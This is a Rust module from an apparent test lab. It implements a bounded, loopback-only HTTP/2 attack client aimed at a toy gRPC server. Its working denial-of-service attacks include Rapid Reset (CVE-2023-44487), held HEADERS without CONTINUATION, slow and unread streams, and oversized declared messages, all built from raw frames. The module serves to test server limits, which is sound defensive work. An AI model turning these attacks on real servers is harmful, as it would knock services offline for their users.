//! An abusive HTTP/2 client, bounded and loopback-only, to show what the toy
//! server's limits are for.
//!
//! Each [`AttackKind`] is one way a client can make a server hold memory, or
//! one of the floods h2 itself sheds. An attack opens `connections`
//! connections and abuses them until its duration or its stream count runs
//! out, whichever comes first, then closes everything. It refuses any target
//! outside 127.0.0.0/8 and ::1.

use std::net::SocketAddr;
use std::time::Duration;

use bytes::{BufMut, Bytes, BytesMut};
use serde::{Deserialize, Serialize};
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::Instant;

/// One way of abusing a gRPC server.
pub use crate::scenario::AttackKind;
use crate::scenario::{AttackError, AttackSpec};

/// An attack, bounded in time and in streams.
#[derive(Debug, Clone, PartialEq)]
pub struct AttackPlan {
    pub kind: AttackKind,
    pub target: SocketAddr,
    /// Connections open at once; each is dialled again when the server ends it.
    pub connections: u32,
    /// The attack ends this long after it starts, or sooner when told ([`run_until`]).
    pub duration: Duration,
    /// New streams per second over all connections; `None`: as fast as the server takes them.
    pub streams_per_second: Option<f64>,
    /// Streams held open at once over all connections, at most (each connection its share).
    pub max_streams: u64,
    /// `unread-responses`: the response size each call asks for.
    pub response_bytes: u32,
    /// `declared-size`: the message length each stream declares.
    pub declared_bytes: u32,
    /// A well-behaved client on its own connection calls this often during the attack, each call with
    /// a 1 s deadline, then once more on a new connection after it; `None`: no such client.
    pub good_client: Option<Duration>,
}

pub use crate::scenario::{DEFAULT_MAX_STREAMS, MAX_EXPOSURE};

impl AttackPlan {
    /// [`DEFAULT_MAX_STREAMS`], or fewer where each stream asks for so much that they would pass
    /// [`MAX_EXPOSURE`].
    pub fn default_max_streams(kind: AttackKind, response_bytes: u32, declared_bytes: u32) -> u64 {
        crate::scenario::AttackSpec::default_max_streams(kind, response_bytes, declared_bytes)
    }

    /// Fails when the streams held could ask a server without limits for more than [`MAX_EXPOSURE`].
    pub fn check_exposure(&self) -> Result<(), String> {
        crate::scenario::AttackSpec::check_exposure(
            self.kind,
            self.max_streams,
            self.response_bytes,
            self.declared_bytes,
        )
    }

    /// The attack without its target and good client.
    pub fn spec(&self) -> AttackSpec {
        AttackSpec {
            kind: self.kind,
            connections: self.connections,
            max_streams: self.max_streams,
            streams_per_second: self.streams_per_second,
            response_bytes: self.response_bytes,
            declared_bytes: self.declared_bytes,
            duration: self.duration,
        }
    }

    /// The bounds every attack keeps (see [`AttackSpec::check`]).
    pub fn check(&self) -> Result<(), AttackError> {
        self.spec().check()
    }

    /// A scenario's attack on `target`, without a good client of its own: the load is the well-behaved client.
    pub fn of(spec: &AttackSpec, target: SocketAddr) -> AttackPlan {
        AttackPlan {
            kind: spec.kind,
            target,
            connections: spec.connections,
            duration: spec.duration,
            streams_per_second: spec.streams_per_second,
            max_streams: spec.max_streams,
            response_bytes: spec.response_bytes,
            declared_bytes: spec.declared_bytes,
            good_client: None,
        }
    }
}

impl AttackPlan {
    /// The `loadgen attack` arguments that run this plan.
    pub fn args(&self) -> Vec<String> {
        let mut args = vec![
            "attack".to_owned(),
            format!("--kind={}", self.kind.name()),
            format!("--target={}", self.target),
            format!("--connections={}", self.connections),
            format!("--duration={}ms", self.duration.as_millis()),
            format!("--max-streams={}", self.max_streams),
            format!("--response-bytes={}", self.response_bytes),
            format!("--declared-bytes={}", self.declared_bytes),
        ];
        if let Some(rate) = self.streams_per_second {
            args.push(format!("--streams-per-second={rate}"));
        }
        args.push(match self.good_client {
            Some(every) => format!("--good-client={}ms", every.as_millis()),
            None => "--good-client=off".to_owned(),
        });
        args
    }
}

/// How long a connection the server ended waits before it is dialled again.
const REDIAL_PAUSE: Duration = Duration::from_millis(200);

/// The deadline of each of the well-behaved client's calls.
pub const GOOD_DEADLINE: Duration = Duration::from_secs(1);

/// What an attack did, and what the server did to it.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
pub struct AttackReport {
    pub kind: Option<AttackKind>,
    /// Connections dialled.
    pub connections: u64,
    /// Streams opened.
    pub streams_opened: u64,
    /// Streams the server reset (RST_STREAM) while the attack held them, refused ones not included.
    pub streams_reset: u64,
    /// Streams the server refused (RST_STREAM REFUSED_STREAM): opened beyond its stream limit before
    /// its SETTINGS arrived.
    pub streams_refused: u64,
    /// Streams the server answered with a response.
    pub streams_answered: u64,
    /// Connections the server ended (GOAWAY or close) before the attack did.
    pub connections_ended: u64,
    /// Over its connections, the sum of the most streams each held open at once.
    pub peak_held: u64,
    /// What the well-behaved client saw, when there was one.
    pub good_client: Option<GoodClient>,
}

/// The calls of a well-behaved client during an attack.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
pub struct GoodClient {
    pub calls: u64,
    /// Failed calls by gRPC code, e.g. `DeadlineExceeded`.
    pub failures: std::collections::BTreeMap<String, u64>,
    /// The slowest call, in milliseconds.
    pub slowest_ms: u64,
    /// Whether a call on a new connection after the attack was answered.
    pub served_after: bool,
}

async fn good_call(client: &mut leaklab_proto::EchoClient<tonic::transport::Channel>) -> Result<(), tonic::Code> {
    let mut request = tonic::Request::new(leaklab_proto::EchoRequest { payload: "good".into(), ..Default::default() });
    request.set_timeout(GOOD_DEADLINE);
    client.unary(request).await.map(drop).map_err(|status| status.code())
}

async fn good_client(target: SocketAddr, every: Duration, mut done: tokio::sync::oneshot::Receiver<()>) -> GoodClient {
    let mut seen = GoodClient::default();
    let endpoint = format!("http://{target}");
    let connect = || async {
        let channel = tonic::transport::Channel::from_shared(endpoint.clone()).ok()?.connect().await.ok()?;
        Some(leaklab_proto::EchoClient::new(channel))
    };
    let Some(mut client) = connect().await else { return seen };
    let mut pace = tokio::time::interval(every);
    loop {
        tokio::select! {
            _ = &mut done => break,
            _ = pace.tick() => {
                let started = Instant::now();
                seen.calls += 1;
                if let Err(code) = good_call(&mut client).await {
                    *seen.failures.entry(format!("{code:?}")).or_default() += 1;
                }
                seen.slowest_ms = seen.slowest_ms.max(started.elapsed().as_millis() as u64);
            }
        }
    }
    if let Some(mut fresh) = connect().await {
        seen.served_after = good_call(&mut fresh).await.is_ok();
    }
    seen
}

/// Fails unless `target` is on loopback.
pub fn check_target(target: SocketAddr) -> Result<(), String> {
    if target.ip().is_loopback() {
        Ok(())
    } else {
        Err(format!(
            "attack target {target}: not a loopback address (127.0.0.0/8 or ::1); attacks stay on this machine"
        ))
    }
}

/// When an attack ends: at the end of its duration, or when told to stop, whichever comes first.
#[derive(Debug, Clone)]
struct Deadline {
    at: Instant,
    stop: tokio::sync::watch::Receiver<bool>,
}

impl Deadline {
    fn passed(&self) -> bool {
        Instant::now() >= self.at || *self.stop.borrow()
    }

    async fn reached(&self) {
        let mut stop = self.stop.clone();
        tokio::select! {
            () = tokio::time::sleep_until(self.at) => {}
            gone = async { stop.wait_for(|stop| *stop).await.is_err() } => if gone {
                // No one left to tell it: the duration alone ends it.
                tokio::time::sleep_until(self.at).await;
            }
        }
    }

    fn left(&self) -> Duration {
        self.at.saturating_duration_since(Instant::now())
    }
}

/// Runs the attack to the end of its duration and reports it.
pub async fn run(plan: &AttackPlan) -> Result<AttackReport, String> {
    let (_never, stop) = tokio::sync::watch::channel(false);
    run_until(plan, stop).await
}

/// Runs the attack until `stop` turns `true` or its duration ends, and reports it.
pub async fn run_until(plan: &AttackPlan, stop: tokio::sync::watch::Receiver<bool>) -> Result<AttackReport, String> {
    check_target(plan.target)?;
    plan.check().map_err(|error| format!("{}: {}", error.field, error.reason))?;
    let ends = Deadline { at: Instant::now() + plan.duration, stop };
    let connections = plan.connections.max(1);
    let per_connection = plan.max_streams.div_ceil(u64::from(connections));
    let gap = plan.streams_per_second.map(|rate| Duration::from_secs_f64(f64::from(connections) / rate.max(1e-3)));
    let attacks = (0..connections).map(|index| {
        let (plan, ends) = (plan.clone(), ends.clone());
        // Paced connections start spread over one gap, so that their streams come evenly, not in bursts.
        let offset = gap.map_or(Duration::ZERO, |gap| gap * index / connections);
        tokio::spawn(async move {
            tokio::time::sleep(offset).await;
            one_connection(&plan, &ends, per_connection, gap).await
        })
    });
    let (attack_over, over) = tokio::sync::oneshot::channel();
    // On a runtime of its own, as another process would be: the attack's tasks do not delay it.
    let good = plan.good_client.map(|every| {
        let target = plan.target;
        std::thread::spawn(move || {
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().ok()?;
            Some(runtime.block_on(good_client(target, every, over)))
        })
    });
    let mut report = AttackReport { kind: Some(plan.kind), ..AttackReport::default() };
    let mut peak = 0;
    for attack in attacks.collect::<Vec<_>>() {
        let one = attack.await.map_err(|error| format!("attack task failed: {error}"))??;
        report.connections += one.connections;
        report.streams_opened += one.streams_opened;
        report.streams_reset += one.streams_reset;
        report.streams_refused += one.streams_refused;
        report.streams_answered += one.streams_answered;
        report.connections_ended += one.connections_ended;
        peak += one.peak_held;
    }
    report.peak_held = peak;
    let _ = attack_over.send(());
    if let Some(good) = good {
        report.good_client = tokio::task::spawn_blocking(move || good.join().ok().flatten()).await.ok().flatten();
    }
    Ok(report)
}

/// One connection's share of the attack: connections one after another, each dialled when the server
/// ended the last, until the attack's time is up. `streams`: the most it holds open at once.
async fn one_connection(
    plan: &AttackPlan,
    ends: &Deadline,
    streams: u64,
    gap: Option<Duration>,
) -> Result<AttackReport, String> {
    let mut report = AttackReport::default();
    while !ends.passed() {
        report.connections += 1;
        let ended = match plan.kind {
            AttackKind::HeldHeaders => held_headers(plan.target, ends, &mut report).await?,
            AttackKind::RapidReset => rapid_reset(plan.target, ends, &mut report).await?,
            _ => abuse(plan, ends, streams, gap, &mut report).await?,
        };
        if !ended {
            break;
        }
        // Dialled again, as a determined client would: what a limit frees, it takes again. After a
        // pause, so that the closed connections' TIME_WAIT do not use up this machine's ephemeral ports.
        report.connections_ended += 1;
        tokio::time::sleep(REDIAL_PAUSE.min(ends.left())).await;
    }
    Ok(report)
}

/// How a held stream ended.
#[derive(Debug, Clone, Copy, Default)]
struct Outcome {
    answered: bool,
    reset: Option<h2::Reason>,
}

/// Holds a stream (and what is left to send on it) until the server resets it or the attack ends.
async fn hold(response: h2::client::ResponseFuture, send: Option<h2::SendStream<Bytes>>) -> Outcome {
    let _unfinished = send;
    let response = match response.await {
        Ok(response) => response,
        Err(error) => return Outcome { answered: false, reset: error.reason() },
    };
    // The body stays unread: dropping it would cancel the stream and free the server.
    let mut body = response.into_body();
    loop {
        match body.data().await {
            Some(Ok(_)) => {}
            Some(Err(error)) => return Outcome { answered: true, reset: error.reason() },
            None => return Outcome { answered: true, reset: None },
        }
    }
}

/// Abuses one connection; returns whether the server ended it.
/// `gap`: the pause after each new stream, when the attack is paced.
async fn abuse(
    plan: &AttackPlan,
    ends: &Deadline,
    streams: u64,
    gap: Option<Duration>,
    report: &mut AttackReport,
) -> Result<bool, String> {
    let tcp = connect(plan.target).await?;
    let mut builder = h2::client::Builder::new();
    if plan.kind == AttackKind::UnreadResponses {
        builder.initial_window_size(0);
    }
    let (mut send, connection) =
        builder.handshake::<_, Bytes>(tcp).await.map_err(|error| format!("attack handshake: {error}"))?;
    let mut connection = tokio::spawn(connection);
    let mut held = tokio::task::JoinSet::new();
    let uri = format!("http://{}/leaklab.v1.Echo/Unary", plan.target);
    let unread_request = grpc_message(&prost::Message::encode_to_vec(&leaklab_proto::EchoRequest {
        response_bytes: plan.response_bytes,
        ..Default::default()
    }));
    let mut declared = BytesMut::new();
    declared.put_u8(0);
    declared.put_u32(plan.declared_bytes);
    declared.put_slice(&[0x0a; 16]);
    let declared = declared.freeze();
    let count = |outcome: Outcome, report: &mut AttackReport| {
        report.streams_answered += u64::from(outcome.answered);
        match outcome.reset {
            Some(h2::Reason::REFUSED_STREAM) => report.streams_refused += 1,
            Some(_) => report.streams_reset += 1,
            None => {}
        }
    };
    let mut ended = false;
    // Hold what was opened, and open more, until the attack ends or the server ends the connection.
    loop {
        tokio::select! {
            biased;
            _ = &mut connection => {
                ended = true;
                break;
            }
            () = ends.reached() => break,
            Some(done) = held.join_next() => {
                if let Ok(outcome) = done {
                    count(outcome, report);
                }
            }
            // Reset streams count until their tasks are joined: what is held never passes the bound.
            ready = std::future::poll_fn(|cx| send.poll_ready(cx)), if (held.len() as u64) < streams => {
                if ready.is_err() {
                    ended = true;
                    break;
                }
                let request = tonic::codegen::http::Request::post(&uri)
                    .header("content-type", "application/grpc")
                    .header("te", "trailers")
                    .body(())
                    .expect("a valid request");
                let Ok((response, mut stream)) = send.send_request(request, false) else {
                    ended = true;
                    break;
                };
                report.streams_opened += 1;
                match plan.kind {
                    AttackKind::SlowStreams => {
                        held.spawn(hold(response, Some(stream)));
                    }
                    AttackKind::DeclaredSize => {
                        let _ = stream.send_data(declared.clone(), false);
                        held.spawn(hold(response, Some(stream)));
                    }
                    AttackKind::UnreadResponses => {
                        let _ = stream.send_data(unread_request.clone(), true);
                        held.spawn(hold(response, None));
                    }
                    AttackKind::RapidReset | AttackKind::HeldHeaders => unreachable!("written as raw frames"),
                }
                report.peak_held = report.peak_held.max(held.len() as u64);
                match gap {
                    Some(gap) => tokio::time::sleep(gap.min(ends.left())).await,
                    // Without a yield, refused streams would be opened again faster than their resets are joined.
                    None => tokio::task::yield_now().await,
                }
            }
        }
    }
    while let Some(done) = held.try_join_next() {
        if let Ok(outcome) = done {
            count(outcome, report);
        }
    }
    held.abort_all();
    connection.abort();
    Ok(ended)
}

async fn connect(target: SocketAddr) -> Result<TcpStream, String> {
    TcpStream::connect(target).await.map_err(|error| format!("attack connect to {target}: {error}"))
}

const SETTINGS: u8 = 0x4;
const RST_STREAM: u8 = 0x3;
const END_HEADERS: u8 = 0x4;
const CANCEL: u32 = 0x8;

/// The client preface and an empty SETTINGS frame.
fn preface() -> Vec<u8> {
    let mut bytes = leaklab_wire::frames::CLIENT_PREFACE.to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, &[]);
    bytes
}

/// An HPACK block (RFC 7541, no Huffman, no indexing) for a unary Echo call to `authority`.
fn request_headers(authority: &str) -> Vec<u8> {
    let mut block = vec![0x83, 0x86]; // :method POST, :scheme http (static table 3 and 6)
    let mut literal = |name_index: &[u8], value: &[u8]| {
        block.extend_from_slice(name_index);
        block.push(value.len() as u8);
        block.extend_from_slice(value);
    };
    literal(&[0x04], b"/leaklab.v1.Echo/Unary"); // :path
    literal(&[0x01], authority.as_bytes()); // :authority
    literal(&[0x0f, 0x10], b"application/grpc"); // content-type (index 31)
    block.extend_from_slice(&[0x00, 2, b't', b'e', 8]);
    block.extend_from_slice(b"trailers");
    block
}

/// Reads from `tcp` until the server closes it or the attack ends; returns whether the server closed it.
async fn until_closed(tcp: &mut TcpStream, ends: &Deadline) -> bool {
    let mut buffer = [0u8; 4096];
    loop {
        tokio::select! {
            () = ends.reached() => return false,
            read = tokio::io::AsyncReadExt::read(tcp, &mut buffer) => if matches!(read, Ok(0) | Err(_)) {
                return true;
            }
        }
    }
}

/// A HEADERS frame on stream 1 without END_HEADERS, its CONTINUATION never sent; returns whether the
/// server closed the connection before the attack ended.
async fn held_headers(target: SocketAddr, ends: &Deadline, report: &mut AttackReport) -> Result<bool, String> {
    let mut tcp = connect(target).await?;
    let mut bytes = preface();
    let block = request_headers(&target.to_string());
    frame(&mut bytes, leaklab_wire::frames::kind::HEADERS, 0, 1, &block[..block.len() / 2]);
    tcp.write_all(&bytes).await.map_err(|error| format!("attack write: {error}"))?;
    report.streams_opened += 1;
    report.peak_held = 1;
    Ok(until_closed(&mut tcp, ends).await)
}

/// HEADERS then RST_STREAM CANCEL, in batches of 100 streams per write, as CVE-2023-44487's clients
/// send them; returns whether the server ended the connection.
async fn rapid_reset(target: SocketAddr, ends: &Deadline, report: &mut AttackReport) -> Result<bool, String> {
    let tcp = connect(target).await?;
    let (mut reader, mut writer) = tcp.into_split();
    writer.write_all(&preface()).await.map_err(|error| format!("attack write: {error}"))?;
    let block = request_headers(&target.to_string());
    let mut stream_id: u32 = 1;
    let mut closed = tokio::spawn(async move {
        let mut buffer = [0u8; 4096];
        while let Ok(1..) = tokio::io::AsyncReadExt::read(&mut reader, &mut buffer).await {}
    });
    report.peak_held = report.peak_held.max(100);
    while !ends.passed() && stream_id < (1 << 31) - 200 {
        let mut batch = Vec::new();
        for _ in 0..100 {
            frame(&mut batch, leaklab_wire::frames::kind::HEADERS, END_HEADERS, stream_id, &block);
            frame(&mut batch, RST_STREAM, 0, stream_id, &CANCEL.to_be_bytes());
            stream_id += 2;
            report.streams_opened += 1;
        }
        tokio::select! {
            _ = &mut closed => return Ok(true),
            written = writer.write_all(&batch) => if written.is_err() {
                return Ok(true);
            }
        }
    }
    Ok(tokio::select! {
        _ = closed => true,
        () = ends.reached() => false,
    })
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// A gRPC message: the flag byte, the length, the bytes.
fn grpc_message(message: &[u8]) -> Bytes {
    let mut bytes = BytesMut::with_capacity(5 + message.len());
    bytes.put_u8(0);
    bytes.put_u32(message.len() as u32);
    bytes.put_slice(message);
    bytes.freeze()
}
